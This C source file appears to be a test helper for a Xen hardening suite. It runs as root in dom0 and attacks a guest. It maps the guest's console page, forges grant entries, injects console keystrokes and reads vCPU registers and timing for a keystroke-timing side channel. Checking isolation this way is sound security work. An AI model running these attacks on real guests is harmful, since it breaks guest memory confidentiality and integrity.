/* SPDX-License-Identifier: MIT */
/*
 * sc-xen-attack: a hostile dom0 administrator against a guest, for
 * check-xen.  Runs as root in dom0, on Debian's libxenctrl,
 * libxenforeignmemory and libxengnttab.
 *
 * Every attack is judged by what the attacker got, not by an error code:
 * a memory attack succeeds when the bytes it read contain MARKER, a string
 * the guest itself wrote into its console page; a vCPU attack succeeds when
 * it got the guest's registers.
 *
 *   sc-xen-attack DOMID suite pv|pvh FRAME MARKER
 *       every attack below against the guest, FRAME its console page (the
 *       frame number xenstore's console/ring-ref gives: an mfn for PV, a
 *       gfn for PVH).  Prints one line per attack:
 *         attack NAME: GOT (what)          the attack worked
 *         attack NAME: nothing (why)       it did not
 *         attack NAME: n/a (why)           it does not apply to this guest
 *       Exit 0 when every applicable attack worked, 1 when none did, 3 when
 *       some did, 2 on a setup error.
 *   sc-xen-attack DOMID hold-map FRAME
 *       maps FRAME of the guest and holds the mapping until killed
 *   sc-xen-attack DOMID seed-grant FRAME | unseed-grant
 *       writes (or clears) grant entry 7 of the guest, offering FRAME to
 *       dom0, through a mapping of its grant table (acquire_resource)
 *   sc-xen-attack DOMID hold-gnttab FRAME MARKER
 *       maps the guest's grant table (XENMEM_acquire_resource, writable, as
 *       any toolstack could), prints "holding" and holds it.  On SIGUSR1 it
 *       attacks through the mapping it held: writes grant entry 5 naming
 *       FRAME (the console page) for dom0, maps entry 5 and judges the bytes
 *       (attack gnttab-held-read), then types a line with a fresh nonce into
 *       the console's in[] and notifies the guest, and looks for the guest's
 *       echo of it in out[] (attack gnttab-held-inject); then exits.  On
 *       SIGTERM it lets go and exits.
 *   sc-xen-attack DOMID suspend
 *       SCHEDOP_remote_shutdown(SHUTDOWN_suspend) of the guest, as the
 *       toolstack's save does: its vCPUs stop where they are
 *   sc-xen-attack 0 tap FILE
 *       copies standard input to standard output and writes one line per
 *       read to FILE, "NS BYTES" (CLOCK_MONOTONIC): when each record reached
 *       dom0 (the relay's input), as an attacker with the relay's pipe sees
 *   sc-xen-attack DOMID watch SECONDS FILE
 *       polls XEN_DOMCTL_getvcpuinfo of vCPU 0 as fast as it answers for
 *       SECONDS and writes "NS CPU_TIME RUNNING BLOCKED" to FILE whenever
 *       one of them changed: the keystroke-timing attack's raw data
 *   sc-xen-attack DOMID hold-target
 *       makes an empty PV helper domain whose target is the guest
 *       (XEN_DOMCTL_set_target; Xen accepts only an HVM/PVH target), holds
 *       it until killed, then destroys it
 *
 * The attacks:
 *   foreign-map    map the console frame (privcmd: mmu_update or
 *                  add_to_physmap, as the caller's kind needs)
 *   grant-console  map grant entry 0, the console's (GNTTAB_RESERVED_CONSOLE)
 *   grant-seed     map the guest's grant table, write entry 7 offering the
 *                  console frame to dom0, map entry 7
 *   vcpu-context   XEN_DOMCTL_getvcpucontext: the guest's registers
 *   hvm-context    PVH guests: XEN_DOMCTL_gethvmcontext (CPU and device state)
 *   run-time       XEN_DOMCTL_getvcpuinfo polled for 2 s as fast as it answers:
 *                  works when it tells the vCPU's run state (running or
 *                  blocked) or its run time finer than 100 ms, what the
 *                  keystroke-timing attack of issue 16 reads
 *   pcpu-idle      XEN_SYSCTL_getcpuinfo: works when a pCPU's idle time comes
 *                  finer than 100 ms (when a guest ran, without naming it)
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <time.h>

#include <xencall.h>
#include <xenctrl.h>
#include <xenforeignmemory.h>
#include <xengnttab.h>
#include <xen/event_channel.h>
#include <xen/grant_table.h>
#include <xen/io/console.h>
#include <xen/memory.h>

#define SEED_REF 7
#define HELD_REF 5
#define PAGE 4096

static xc_interface *xch;
static xenforeignmemory_handle *fm;
static xengnttab_handle *gt;
static const char *marker;
static int worked, failed;

static int usage(void)
{
    fprintf(stderr, "usage: sc-xen-attack DOMID suite pv|pvh FRAME MARKER |\n"
                    "       DOMID hold-map FRAME | DOMID seed-grant FRAME |\n"
                    "       DOMID unseed-grant | DOMID hold-gnttab FRAME MARKER | DOMID suspend |\n"
                    "       DOMID hold-target | 0 tap FILE | DOMID watch SECONDS FILE\n");
    return 2;
}

static void got(const char *name, const char *what)
{
    printf("attack %s: GOT (%s)\n", name, what);
    worked++;
}

static void nothing(const char *name, const char *why, int err)
{
    printf("attack %s: nothing (%s%s%s)\n", name, why, err ? ": " : "",
           err ? strerror(err) : "");
    failed++;
}

/* Judges a page the attacker read: does it hold the guest's marker? */
static void judge_page(const char *name, const void *p)
{
    if (memmem(p, PAGE, marker, strlen(marker)))
        got(name, "the guest's marker in the console page");
    else
        nothing(name, "mapped, but no marker in the bytes", 0);
}

static void attack_foreign_map(uint32_t domid, xen_pfn_t frame)
{
    int err = 0;
    void *p = xenforeignmemory_map(fm, domid, PROT_READ, 1, &frame, &err);

    if (!p || err) {
        nothing("foreign-map", "map refused", p ? -err : errno);
        if (p)
            xenforeignmemory_unmap(fm, p, 1);
        return;
    }
    judge_page("foreign-map", p);
    xenforeignmemory_unmap(fm, p, 1);
}

static void attack_grant(const char *name, uint32_t domid, uint32_t ref)
{
    void *p = xengnttab_map_grant_ref(gt, domid, ref, PROT_READ);

    if (!p) {
        nothing(name, "grant map refused", errno);
        return;
    }
    judge_page(name, p);
    xengnttab_unmap(gt, p, 1);
}

/* Maps the guest's first shared grant frame, writable. */
static grant_entry_v1_t *grant_table(uint32_t domid, xenforeignmemory_resource_handle **res)
{
    void *addr = NULL;

    *res = xenforeignmemory_map_resource(fm, domid, XENMEM_resource_grant_table,
                                         XENMEM_resource_grant_table_id_shared, 0, 1,
                                         &addr, PROT_READ | PROT_WRITE, 0);
    return *res ? addr : NULL;
}

static int seed(uint32_t domid, xen_pfn_t frame, int on)
{
    xenforeignmemory_resource_handle *res;
    grant_entry_v1_t *e = grant_table(domid, &res);

    if (!e)
        return -1;
    if (on) {
        e[SEED_REF].domid = 0;
        e[SEED_REF].frame = (uint32_t)frame;
        __sync_synchronize();
        e[SEED_REF].flags = GTF_permit_access;
    } else {
        e[SEED_REF].flags = 0;
        __sync_synchronize();
        e[SEED_REF].frame = 0;
    }
    xenforeignmemory_unmap_resource(fm, res);
    return 0;
}

static void attack_grant_seed(uint32_t domid, xen_pfn_t frame)
{
    if (seed(domid, frame, 1) < 0) {
        nothing("grant-seed", "grant table map refused", errno);
        return;
    }
    attack_grant("grant-seed", domid, SEED_REF);
    (void)seed(domid, frame, 0);
}

/*
 * Notifies every event channel of dom0 connected to domid (its console's
 * among them) with a raw EVTCHNOP_send through privcmd, as root can: the
 * ports belong to xenconsoled and xenstored, not to this process.
 */
static int notify_guest(uint32_t domid)
{
    xencall_handle *xc = xencall_open(NULL, 0);
    evtchn_send_t *send;
    evtchn_port_t p;
    int n = 0;

    if (!xc)
        return 0;
    send = xencall_alloc_buffer(xc, sizeof(*send));
    for (p = 1; send && p < 4096; p++) {
        xc_evtchn_status_t st;

        memset(&st, 0, sizeof(st));
        st.dom = DOMID_SELF;
        st.port = p;
        if (xc_evtchn_status(xch, &st) || st.status != EVTCHNSTAT_interdomain ||
            st.u.interdomain.dom != domid)
            continue;
        send->port = p;
        if (xencall2(xc, __HYPERVISOR_event_channel_op, EVTCHNOP_send,
                     (uint64_t)(uintptr_t)send) == 0)
            n++;
    }
    if (send)
        xencall_free_buffer(xc, send);
    xencall_close(xc);
    return n;
}

/* Types line into the console's in[] and waits for the guest's echo in out[]. */
static void inject(uint32_t domid, volatile struct xencons_interface *c)
{
    char line[64], what[128];
    size_t i, len;
    XENCONS_RING_IDX prod;
    struct timespec ts = { 0, 200 * 1000 * 1000 };
    int tries;

    snprintf(line, sizeof(line), "sccrypt-injected-%08lx", (unsigned long)random());
    len = strlen(line);
    prod = c->in_prod;
    for (i = 0; i < len; i++)
        c->in[MASK_XENCONS_IDX(prod + i, c->in)] = line[i];
    __sync_synchronize();
    c->in_prod = prod + (XENCONS_RING_IDX)len;
    notify_guest(domid);
    for (tries = 0; tries < 50; tries++) {
        char out[sizeof(c->out) + 1];

        for (i = 0; i < sizeof(c->out); i++)
            out[i] = c->out[i] ? c->out[i] : ' ';
        out[sizeof(c->out)] = 0;
        if (strstr(out, line)) {
            snprintf(what, sizeof(what), "the guest echoed the injected %s", line);
            got("gnttab-held-inject", what);
            return;
        }
        if (tries % 10 == 9)
            notify_guest(domid);
        nanosleep(&ts, NULL);
    }
    nothing("gnttab-held-inject", "no echo of the injected line in out[]", 0);
}

/*
 * The grant-table mapping held across the bind: write entry HELD_REF naming
 * the console frame through it, map the entry, read and type.
 */
static void attack_held(uint32_t domid, grant_entry_v1_t *e, xen_pfn_t frame)
{
    void *p;

    e[HELD_REF].domid = 0;
    e[HELD_REF].frame = (uint32_t)frame;
    __sync_synchronize();
    e[HELD_REF].flags = GTF_permit_access;
    p = xengnttab_map_grant_ref(gt, domid, HELD_REF, PROT_READ | PROT_WRITE);
    if (!p) {
        nothing("gnttab-held-read", "grant map of the written entry refused", errno);
        nothing("gnttab-held-inject", "no mapping", 0);
    } else {
        judge_page("gnttab-held-read", p);
        inject(domid, p);
        xengnttab_unmap(gt, p, 1);
    }
    e[HELD_REF].flags = 0;
    __sync_synchronize();
    e[HELD_REF].frame = 0;
}

/* An empty PV domain (no memory, never run) whose target is the guest. */
static int make_helper(uint32_t domid, uint32_t *helper)
{
    struct xen_domctl_createdomain cfg;

    memset(&cfg, 0, sizeof(cfg));
    cfg.max_vcpus = 1;
    cfg.max_evtchn_port = 63;
    cfg.max_grant_frames = 1;
    cfg.max_maptrack_frames = 1;
    cfg.grant_opts = XEN_DOMCTL_GRANT_version(1);
    *helper = 0;
    if (xc_domain_create(xch, helper, &cfg))
        return -1;
    if (xc_domain_set_target(xch, *helper, domid)) {
        int e = errno;

        xc_domain_destroy(xch, *helper);
        errno = e;
        return -1;
    }
    return 0;
}

static void attack_vcpu_context(uint32_t domid)
{
    vcpu_guest_context_any_t c;
    char what[96];

    memset(&c, 0, sizeof(c));
    if (xc_vcpu_getcontext(xch, domid, 0, &c)) {
        nothing("vcpu-context", "getvcpucontext refused", errno);
        return;
    }
    if (!c.x64.user_regs.rip && !c.x64.ctrlreg[3]) {
        nothing("vcpu-context", "answered, but no registers in it", 0);
        return;
    }
    snprintf(what, sizeof(what), "the guest's registers: rip %#llx cr3 %#llx",
             (unsigned long long)c.x64.user_regs.rip,
             (unsigned long long)c.x64.ctrlreg[3]);
    got("vcpu-context", what);
}

static void attack_hvm_context(uint32_t domid)
{
    uint8_t *buf;
    int n = xc_domain_hvm_getcontext(xch, domid, NULL, 0);
    char what[64];

    if (n <= 0) {
        nothing("hvm-context", "gethvmcontext refused", errno);
        return;
    }
    buf = calloc(1, (size_t)n);
    if (!buf) {
        nothing("hvm-context", "out of memory", ENOMEM);
        return;
    }
    n = xc_domain_hvm_getcontext(xch, domid, buf, (uint32_t)n);
    if (n <= 0)
        nothing("hvm-context", "gethvmcontext refused", errno);
    else {
        snprintf(what, sizeof(what), "%d bytes of CPU and device state", n);
        got("hvm-context", what);
    }
    free(buf);
}

#define GRAIN_NS 100000000ULL

static void attack_run_time(uint32_t domid)
{
    struct timespec t0, t;
    unsigned long polls = 0, states = 0, fine = 0, changes = 0;
    uint64_t last = 0;
    char what[160];

    clock_gettime(CLOCK_MONOTONIC, &t0);
    do {
        xc_vcpuinfo_t vi;

        memset(&vi, 0, sizeof(vi));
        if (xc_vcpu_getinfo(xch, domid, 0, &vi)) {
            nothing("run-time", "getvcpuinfo refused", errno);
            return;
        }
        polls++;
        states += vi.running || vi.blocked;
        fine += vi.cpu_time % GRAIN_NS != 0;
        changes += polls > 1 && vi.cpu_time != last;
        last = vi.cpu_time;
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((t.tv_sec - t0.tv_sec) * 1000000000LL + (t.tv_nsec - t0.tv_nsec) < 2000000000LL);
    snprintf(what, sizeof(what), "%lu polls: run state in %lu, run time finer than 100 ms "
             "in %lu, %lu changes", polls, states, fine, changes);
    if (states || fine)
        got("run-time", what);
    else
        nothing("run-time", what, 0);
}

static void attack_pcpu_idle(void)
{
    xc_cpuinfo_t ci[64];
    int n = 0, i, fine = 0;
    char what[96];

    if (xc_getcpuinfo(xch, 64, ci, &n)) {
        nothing("pcpu-idle", "getcpuinfo refused", errno);
        return;
    }
    for (i = 0; i < n; i++)
        fine += ci[i].idletime % GRAIN_NS != 0;
    snprintf(what, sizeof(what), "%d of %d pCPUs' idle time finer than 100 ms", fine, n);
    if (fine)
        got("pcpu-idle", what);
    else
        nothing("pcpu-idle", what, 0);
}

static int suite(uint32_t domid, const char *kind, xen_pfn_t frame)
{
    int pv = !strcmp(kind, "pv");

    if (!pv && strcmp(kind, "pvh"))
        return usage();
    attack_foreign_map(domid, frame);
    attack_grant("grant-console", domid, 0);
    attack_grant_seed(domid, frame);
    attack_vcpu_context(domid);
    if (pv)
        printf("attack hvm-context: n/a (PV guest)\n");
    else
        attack_hvm_context(domid);
    attack_run_time(domid);
    attack_pcpu_idle();
    printf("attacks: %d worked, %d got nothing\n", worked, failed);
    return failed == 0 ? 0 : worked == 0 ? 1 : 3;
}

static long long mono_ns(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000LL + t.tv_nsec;
}

static int tap(const char *path)
{
    FILE *f = fopen(path, "w");
    char buf[65536];

    if (!f) {
        fprintf(stderr, "sc-xen-attack: %s: %s\n", path, strerror(errno));
        return 2;
    }
    for (;;) {
        ssize_t n = read(0, buf, sizeof(buf)), off = 0;

        if (n < 0 && errno == EINTR)
            continue;
        if (n <= 0)
            break;
        fprintf(f, "%lld %zd\n", mono_ns(), n);
        fflush(f);
        while (off < n) {
            ssize_t w = write(1, buf + off, (size_t)(n - off));

            if (w < 0 && errno == EINTR)
                continue;
            if (w <= 0) {
                fclose(f);
                return 1;
            }
            off += w;
        }
    }
    return fclose(f) ? 1 : 0;
}

static int watch(uint32_t domid, long seconds, const char *path)
{
    FILE *f = fopen(path, "w");
    long long end = mono_ns() + seconds * 1000000000LL, now;
    xc_vcpuinfo_t last;
    int first = 1;

    if (!f) {
        fprintf(stderr, "sc-xen-attack: %s: %s\n", path, strerror(errno));
        return 2;
    }
    memset(&last, 0, sizeof(last));
    while ((now = mono_ns()) < end) {
        xc_vcpuinfo_t vi;

        memset(&vi, 0, sizeof(vi));
        if (xc_vcpu_getinfo(xch, domid, 0, &vi))
            break;
        if (first || vi.cpu_time != last.cpu_time || vi.running != last.running ||
            vi.blocked != last.blocked)
        {
            fprintf(f, "%lld %llu %u %u\n", now, (unsigned long long)vi.cpu_time,
                    (unsigned)vi.running, (unsigned)vi.blocked);
            fflush(f);                  /* the test stops it with a signal */
        }
        first = 0;
        last = vi;
    }
    return fclose(f) ? 1 : 0;
}

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
    stop = sig;
}

/* Holds until SIGTERM or SIGINT (or SIGUSR1 when usr1); returns the signal. */
static int wait_for_signal(int usr1)
{
    struct sigaction sa;

    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_signal;
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    if (usr1)
        sigaction(SIGUSR1, &sa, NULL);
    printf("holding\n");
    fflush(stdout);
    while (!stop)
        pause();
    return stop;
}

int main(int argc, char **argv)
{
    unsigned long domid;
    xen_pfn_t frame = 0;
    char *end;
    int rc = 2;

    if (argc < 3)
        return usage();
    domid = strtoul(argv[1], &end, 10);
    if (*end || domid >= DOMID_FIRST_RESERVED)
        return usage();
    if (!strcmp(argv[2], "tap") && argc == 4)
        return tap(argv[3]);            /* needs no Xen interface (runs as op) */
    xch = xc_interface_open(NULL, NULL, 0);
    fm = xenforeignmemory_open(NULL, 0);
    gt = xengnttab_open(NULL, 0);
    if (!xch || !fm || !gt) {
        fprintf(stderr, "sc-xen-attack: cannot open the Xen interfaces: %s\n",
                strerror(errno));
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(argv[2], "suite") && argc == 6) {
        frame = strtoull(argv[4], &end, 0);
        if (*end)
            return usage();
        marker = argv[5];
        rc = suite((uint32_t)domid, argv[3], frame);
    } else if (!strcmp(argv[2], "hold-map") && argc == 4) {
        int err = 0;
        void *p;

        frame = strtoull(argv[3], &end, 0);
        if (*end)
            return usage();
        p = xenforeignmemory_map(fm, (uint32_t)domid, PROT_READ, 1, &frame, &err);
        if (!p || err) {
            printf("refused: %s\n", strerror(p ? -err : errno));
            return 1;
        }
        wait_for_signal(0);
        xenforeignmemory_unmap(fm, p, 1);
        rc = 0;
    } else if (!strcmp(argv[2], "seed-grant") && argc == 4) {
        frame = strtoull(argv[3], &end, 0);
        if (*end)
            return usage();
        rc = seed((uint32_t)domid, frame, 1) < 0 ? 1 : 0;
        printf(rc ? "refused: %s\n" : "seeded\n", strerror(errno));
    } else if (!strcmp(argv[2], "unseed-grant") && argc == 3) {
        rc = seed((uint32_t)domid, 0, 0) < 0 ? 1 : 0;
        printf(rc ? "refused: %s\n" : "cleared\n", strerror(errno));
    } else if (!strcmp(argv[2], "hold-gnttab") && argc == 5) {
        xenforeignmemory_resource_handle *res;
        grant_entry_v1_t *e;

        frame = strtoull(argv[3], &end, 0);
        if (*end)
            return usage();
        marker = argv[4];
        e = grant_table((uint32_t)domid, &res);
        if (!e) {
            printf("refused: %s\n", strerror(errno));
            return 1;
        }
        srandom((unsigned)time(NULL) ^ (unsigned)getpid());
        if (wait_for_signal(1) == SIGUSR1) {
            attack_held((uint32_t)domid, e, frame);
            printf("attacks: %d worked, %d got nothing\n", worked, failed);
        }
        xenforeignmemory_unmap_resource(fm, res);
        rc = failed == 0 ? 0 : worked == 0 ? 1 : 3;
    } else if (!strcmp(argv[2], "watch") && argc == 5) {
        rc = watch((uint32_t)domid, strtol(argv[3], NULL, 10), argv[4]);
    } else if (!strcmp(argv[2], "suspend") && argc == 3) {
        rc = xc_domain_shutdown(xch, (uint32_t)domid, SHUTDOWN_suspend) ? 1 : 0;
        printf(rc ? "refused: %s\n" : "suspended\n", strerror(errno));
    } else if (!strcmp(argv[2], "hold-target") && argc == 3) {
        uint32_t helper;

        if (make_helper((uint32_t)domid, &helper) < 0) {
            printf("refused: %s\n", strerror(errno));
            return 1;
        }
        printf("helper %u\n", helper);
        wait_for_signal(0);
        xc_domain_destroy(xch, helper);
        rc = 0;
    } else
        return usage();
    xengnttab_close(gt);
    xenforeignmemory_close(fm);
    xc_interface_close(xch);
    return rc;
}
